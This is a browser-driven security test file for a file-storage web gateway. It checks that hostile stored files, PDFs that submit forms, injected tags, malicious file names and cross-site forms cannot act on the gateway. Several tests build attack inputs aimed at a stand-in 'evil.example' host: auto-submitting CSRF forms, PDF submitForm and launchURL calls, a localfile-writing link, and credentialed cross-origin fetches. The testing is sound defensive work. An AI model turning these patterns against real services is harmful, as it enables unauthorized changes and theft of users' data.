// Stored files and other sites' pages that attack. Promise 6.
import { strict as assert } from "node:assert";
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { hostile, hostileNames, sendingPdf } from "../samples.mjs";

/// Somebody else's site, of another name and so another site: it remembers who came and what they
/// brought, and serves what it was told.
async function site() {
  const visits = [];
  const pages = {};
  const server = createServer(async (request, response) => {
    const { url, method, headers } = request;
    let body = "";
    for await (const piece of request) body += piece;
    // A browser asks for it of its own accord.
    if (url !== "/favicon.ico") visits.push({ url, method, headers, body });
    response.setHeader("Content-Type", "text/html");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end(pages[url] ?? "<p>evil</p>");
  });
  await new Promise((good) => server.listen(0, "127.0.0.1", good));
  const url = `http://evil.example:${server.address().port}`;
  return { url, visits, pages, close: () => new Promise((good) => { server.closeAllConnections(); server.close(good); }) };
}

const own = async (grid) => {
  const [, { children }] = await (await grid.ask("/vdrive/private?t=json")).json();
  return Object.keys(children).sort();
};

/// Goes somewhere, where what is there may be saved and not shown.
const visit = (page, url) => page.goto(url).catch((error) => { if (!/download|ERR_ABORTED/i.test(String(error))) throw error; });

/// What goes out to others, what is done, and what a page says aloud, while a case runs.
function watch(page, grid) {
  const seen = { others: [], changes: [], dialogs: 0 };
  page.on("dialog", (dialog) => { seen.dialogs += 1; dialog.dismiss(); });
  // Those that the policy blocks never finish.
  page.on("requestfinished", (request) => { if (/^(http|ws)/.test(request.url()) && !request.url().startsWith(grid.url)) seen.others.push(request.url()); });
  page.on("request", (request) => {
    const one = `${request.method()} ${request.url().slice(grid.url.length)}`;
    if (/^GET \/vdrive\/private(\?|$)|^POST|^PUT|^DELETE/.test(one)) seen.changes.push(one);
  });
  return seen;
}

export async function stored_files_cannot_act({ grid, profile, complaints, figures }) {
  const evil = await site();
  const at = "/vdrive/private/hostile";
  await grid.ask(`${at}?t=mkdir`, { method: "POST" });
  const files = hostile(evil.url);
  const caps = {};
  for (const [name, text] of Object.entries(files)) caps[name] = await grid.put(`${at}/${name}`, text);
  const before = await own(grid);
  const page = await profile();
  const seen = watch(page, grid);
  let views = 0;
  for (const name of Object.keys(files)) {
    const cap = encodeURIComponent(caps[name]);
    const raw = `${at}/${name}`;
    const named = `filename=${name}`;
    const paths = [`${raw}?t=view`, raw, `${raw}?filename=x.html`, `${raw}?filename=x.svg`, `${raw}?t=info`,
      `/uri/${cap}`, `/uri/${cap}?t=view`, `/uri/${cap}?t=view&${named}`, `/uri/${cap}?${named}`, `/file/${cap}/${name}`, `/named/${cap}/x.html?t=info`];
    for (const path of [...paths, ...(/html|noname/.test(name) ? [`/site/${cap}?filename=x.html`] : [])]) {
      await visit(page, grid.url + path);
      await page.waitForTimeout(120);
      assert.equal(await page.evaluate(() => window.__pwned ?? null), null, path);
      assert.ok(!/URI(:|%3A)/.test(await page.title()), path);
      views += 1;
    }
  }
  await page.waitForTimeout(500);
  assert.deepEqual(seen, { others: [], changes: [], dialogs: 0 }, "a stored file reached another");
  assert.deepEqual(evil.visits, []);
  assert.deepEqual(await own(grid), before);
  figures.push(`${Object.keys(files).length} hostile files in ${views} views, half of them by cap: 0 requests to others, 0 reads of a second file`);
  await evil.close();
  // What was blocked is reported on the console, as it should be.
  complaints.length = 0;
}

export async function a_link_out_tells_nothing_and_a_link_in_does_nothing({ grid, profile, complaints, figures }) {
  const evil = await site();
  const { url, ask, node, login, end } = await grid.run("linked", grid.introducer, { webport_allow_localfile: "" });
  const goal = join(node, "written-by-a-link");
  const stranger = `URI:DIR:${"a".repeat(52)}@tcp:127.0.0.1:9:${"a".repeat(52)}`;
  const target = `${url}/uri/URI%3ALIT%3Anbswy3dp?t=download&localfile=${encodeURIComponent(goal)}`;
  const text = `[out](${evil.url}/out) [write](${target}) [dial](${url}/uri/${encodeURIComponent(stranger)}?allow-new-tub=1)\n`;
  const cap = await (await ask("/uri", { method: "PUT", body: text })).text();
  const page = await profile({}, false);
  await page.goto(await login());
  await page.waitForURL(`${url}/`);
  await page.goto(`${url}/uri/${encodeURIComponent(cap)}?t=view&filename=page.md`);
  const follow = async (words) => {
    const [other] = await Promise.all([page.waitForEvent("popup"), page.click(`.prose a:has-text('${words}')`)]);
    await other.waitForLoadState();
    return other;
  };
  const out = await follow("out");
  assert.equal(await out.evaluate(() => window.opener), null);
  assert.equal(evil.visits.length, 1);
  const [{ url: path, headers }] = evil.visits;
  assert.equal(path, "/out");
  assert.deepEqual([headers.referer, headers.origin, headers.cookie], [undefined, undefined, undefined]);
  for (const words of ["write", "dial"]) {
    const other = await follow(words);
    assert.match(await other.textContent("main"), /A link may not change anything/, words);
  }
  assert.ok(!existsSync(goal), "a link wrote a file");
  // The same by a program with the token, so that the test is about something.
  assert.equal((await ask(target.slice(url.length))).status, 200);
  assert.ok(existsSync(goal));
  figures.push("2 changing links clicked: 0 effects; a link out: no Referer, Origin or Cookie");
  await end();
  await evil.close();
  complaints.length = 0;
}

export async function a_pdf_sends_nothing_and_changes_nothing({ grid, profile, complaints, figures }) {
  const evil = await site();
  const at = "/vdrive/private/documents";
  await grid.ask(`${at}?t=mkdir`, { method: "POST" });
  const before = await own(grid);
  const page = await profile();
  let clicks = 0;
  const own_place = `${grid.url}/vdrive/private?t=mkdir&name=owned`;
  const tries = (to) => `try{this.submitForm("${to}")}catch(e){} try{this.submitForm({cURL:"${to}",cSubmitAs:"HTML"})}catch(e){} try{app.launchURL("${to}",true)}catch(e){} try{this.getURL("${to}")}catch(e){}`.replace(/[()]/g, "\\$&");
  for (const [name, to] of [["own", own_place], ["relative", "/vdrive/private?t=mkdir&name=owned"], ["evil", `${evil.url}/pdf`]]) {
    const cap = await grid.put(`${at}/${name}.pdf`, sendingPdf(to, tries(to)));
    for (const path of [`${at}/${name}.pdf?t=view`, `/uri/${encodeURIComponent(cap)}?t=view`]) {
      await page.goto(grid.url + path);
      const frame = await page.waitForSelector("iframe");
      assert.match(await frame.getAttribute("src"), /^\/shown\/[a-z2-7]+$/);
      await page.waitForTimeout(1500);
      assert.deepEqual(evil.visits, [], `${path} sent something unasked`);
      // A click that its reader makes may send what is in the form, to wherever; never the cap.
      await frame.click({ timeout: 5000 }).catch(() => {});
      await page.waitForTimeout(500);
      assert.ok(!/URI(:|%3A)/.test(JSON.stringify(evil.visits)), path);
      clicks += evil.visits.length;
      evil.visits.length = 0;
      assert.deepEqual(await own(grid), before, path);
    }
  }
  const shown = await page.getAttribute("iframe", "src").catch(() => null);
  if (shown) {
    const inTab = await page.goto(grid.url + shown);
    assert.equal(inTab.status(), 403, "it can be shown without its page");
  }
  figures.push("3 PDFs that send forms, opened and clicked: 0 visits unasked, 0 changes");
  console.log(`   forms that a click sent elsewhere: ${clicks}`);
  await evil.close();
  complaints.length = 0;
}

export async function a_tag_that_got_into_a_page_finds_nothing_to_run({ grid, profile, complaints, figures }) {
  const at = "/vdrive/private/injected";
  await grid.ask(`${at}?t=mkdir`, { method: "POST" });
  await grid.put(`${at}/a.js`, "window.__pwned = 1");
  await grid.put(`${at}/a.css`, "body { outline: 7px solid red }");
  const page = await profile();
  // Known to the browser already, as something to look at.
  for (const name of ["a.js", "a.css"]) await visit(page, `${grid.url}${at}/${name}`);
  await page.goto(`${grid.url}/vdrive/private`);
  const outcome = await page.evaluate(async (at) => {
    const tag = (element) => new Promise((good) => {
      element.onload = () => good("loaded");
      element.onerror = () => good("refused");
      document.head.append(element);
    });
    const script = Object.assign(document.createElement("script"), { src: `${at}/a.js` });
    const style = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${at}/a.css` });
    return [await tag(script), await tag(style), getComputedStyle(document.body).outlineWidth === "7px", window.__pwned ?? null];
  }, at);
  assert.deepEqual(outcome, ["refused", "refused", false, null]);
  figures.push("stored scripts and styles in a page: 0 run");
  complaints.length = 0;
}

export async function hostile_names_are_text({ grid, profile, complaints, figures }) {
  const names = hostileNames();
  const children = Object.fromEntries(names.map((name) => [name, ["filenode", { ro_uri: "URI:LIT:nbswy3dp" }]]));
  const made = await grid.ask("/vdrive/private/names?t=mkdir-with-children", { method: "POST", body: JSON.stringify(children) });
  assert.ok(made.ok, await made.text());
  const page = await profile();
  let dialogs = 0;
  page.on("dialog", (dialog) => { dialogs += 1; dialog.dismiss(); });
  const pwned = () => page.evaluate(() => window.__pwned ?? null);
  await page.goto(`${grid.url}/vdrive/private/names`);
  const shown = await page.$$eval(".rows .row", (rows) => rows.map((row) => row.dataset.n));
  assert.deepEqual(shown.sort(), names.map((name) => name.normalize("NFC")).sort());
  await page.click("[data-view=grid]");
  await page.click("[data-all]");
  await page.hover(".rows .row >> nth=3");
  assert.equal(await pwned(), null);
  await page.click("[data-clear]");
  const links = await page.$$eval(".rows [data-more]", (all) => all.map((link) => link.getAttribute("href").split("?")[0]));
  for (const link of links.filter((_, index) => index % 10 === 3)) {
    for (const t of ["view", "info", "share"]) {
      await page.goto(`${grid.url + link}?t=${t}`);
      assert.equal(await pwned(), null, link);
    }
    const name = encodeURIComponent(decodeURIComponent(link.split("/").pop()));
    for (const t of ["rename-form", "move-form"]) {
      await page.goto(`${grid.url}/vdrive/private/names?t=${t}&name=${name}`);
      assert.equal(await pwned(), null, link);
    }
  }
  await page.goto(`${grid.url}/vdrive/private/names`);
  await page.evaluate(() => { for (const row of document.querySelectorAll(".rows input")) row.checked = true; });
  await page.evaluate(() => document.querySelector("[data-listing]").requestSubmit(document.querySelector("[data-delete]")));
  await page.waitForSelector(`text=${names.length} items are deleted`);
  await page.goto(`${grid.url}/deleted`);
  assert.equal(await pwned(), null);
  assert.equal(dialogs, 0);
  assert.deepEqual(complaints, []);
  figures.push(`${names.length} hostile names: 0 executed`);
}

export async function other_sites_change_nothing({ grid, profile, complaints, figures }) {
  const evil = await site();
  const page = await profile();
  await grid.put("/vdrive/private/victim.txt", "mine");
  const before = await own(grid);
  const posts = ["t=mkdir&name=owned", "t=delete&name=victim.txt", "t=unlink&name=victim.txt", "t=rename&from_name=victim.txt&to_name=x", "t=change&do=delete&name=victim.txt", "t=uri&name=owned&uri=URI:LIT:me", "t=change&do=copy&name=victim.txt&to=/vdrive/private", "t=set_children"];
  const places = ["/vdrive/private", "/vdrive/global", "/join?furl=x", "/deleted?do=restore&token=x", "/open?uri=URI:LIT:me"];
  const forms = places.flatMap((place) => posts.map((query) => [place, query]));
  let number = 0;
  for (const [place, query] of forms) {
    const action = `${grid.url}${place}${place.includes("?") ? "&" : "?"}${query}`.replaceAll("&", "&amp;");
    const kind = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"][number % 3];
    const path = `/form${number}`;
    number += 1;
    evil.pages[path] = `<form id=f method=post enctype="${kind}" action="${action}"><input name=x value=y></form><script>f.submit()</script>`;
    const [answer] = await Promise.all([page.waitForResponse((response) => response.url().startsWith(grid.url) && response.request().method() === "POST"), page.goto(evil.url + path).catch(() => {})]);
    assert.ok([403, 401].includes(answer.status()), `${place} ${query}: ${answer.status()}`);
  }
  await page.goto(`${evil.url}/read`);
  const read = await page.evaluate(async (target) => {
    const out = [];
    for (const [method, mode] of [["GET", "cors"], ["GET", "no-cors"], ["PUT", "cors"], ["DELETE", "cors"]]) {
      try { const answer = await fetch(`${target}/vdrive/private/victim.txt`, { method, mode, credentials: "include" }); out.push((await answer.text()).length); } catch { out.push("refused"); }
    }
    return out;
  }, grid.url);
  assert.ok(read.every((one) => one === "refused" || one === 0), JSON.stringify(read));
  evil.pages["/frame"] = `<iframe src="${grid.url}/"></iframe><iframe src="${grid.url}/vdrive/private/victim.txt"></iframe>`;
  await page.goto(`${evil.url}/frame`);
  await page.waitForTimeout(300);
  for (const frame of page.frames().slice(1)) assert.match(frame.url(), /^chrome-error:/, "it can be framed");
  assert.deepEqual(await own(grid), before);
  // A name that was bound anew to this machine, which for the browser is the gateway's own.
  const { port } = new URL(grid.url);
  const rebound = await page.goto(`http://rebound.example:${port}/vdrive/global`);
  assert.equal(rebound.status(), 403);
  assert.match(await page.textContent("main"), /does not go by that host name/);
  const stolen = await page.evaluate(() => fetch("/vdrive/global?t=json").then((answer) => answer.status));
  assert.equal(stolen, 403);
  // A window that another site opened is not that site's.
  await page.goto(`${evil.url}/opener`);
  const [opened] = await Promise.all([page.waitForEvent("popup"), page.evaluate((to) => { window.w = window.open(to); }, `${grid.url}/vdrive/global`)]);
  await opened.waitForLoadState();
  await page.waitForFunction(() => window.w.closed);
  assert.ok(!opened.isClosed());
  assert.equal(await opened.evaluate(() => window.opener), null);
  for (const { url, headers } of evil.visits) {
    assert.ok(!/URI(:|%3A)/.test(url + (headers.referer ?? "")), url);
    assert.ok(!/tahoe-/.test(headers.cookie ?? ""), "a session's cookie went out");
  }
  figures.push(`${forms.length} cross-site forms: 0 changes; a rebound name: ${rebound.status()}; windows held: 0`);
  await evil.close();
  complaints.length = 0;
}
